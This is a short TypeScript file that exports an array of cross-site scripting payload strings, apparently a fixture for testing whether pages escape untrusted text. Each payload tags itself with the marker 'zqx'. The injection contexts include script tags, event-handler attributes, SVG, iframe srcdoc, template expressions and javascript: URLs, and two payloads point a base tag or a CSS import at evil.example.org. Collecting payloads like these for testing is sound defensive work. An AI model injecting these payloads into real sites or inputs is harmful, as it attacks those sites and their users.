/** Texts that become a running script wherever a page forgets to treat them as text. Each says who it is. */
export const SCRIPT_PAYLOADS: readonly string[] = [
  '<script>alert("zqx")</script>',
  '"><img src=x onerror=alert("zqx")>',
  "' autofocus onfocus=alert('zqx') x='",
  '</title></textarea></script><script>alert("zqx")</script>',
  '<svg/onload=alert("zqx")>',
  '<iframe srcdoc="<script>parent.alert(`zqx`)</script>"></iframe>',
  '<a href="javascript:alert(`zqx`)" id=zqx>zqx</a>',
  ']]><script xmlns="http://www.w3.org/1999/xhtml">alert("zqx")</script>',
  '--><script>alert("zqx")</script><!--',
  '<math><mtext><style><img src=x onerror=alert("zqx")></style></mtext></math>',
  '{{constructor.constructor("alert(`zqx`)")()}}${alert("zqx")}',
  '&lt;script&gt;alert("zqx")&lt;/script&gt;\u2028<details open ontoggle=alert("zqx")>',
  '<base href="https://evil.example.org/"><meta http-equiv=refresh content="0;url=javascript:alert(`zqx`)">',
  '<form action=javascript:alert("zqx")><input type=submit autofocus><style>@import"//evil.example.org"</style>',
];
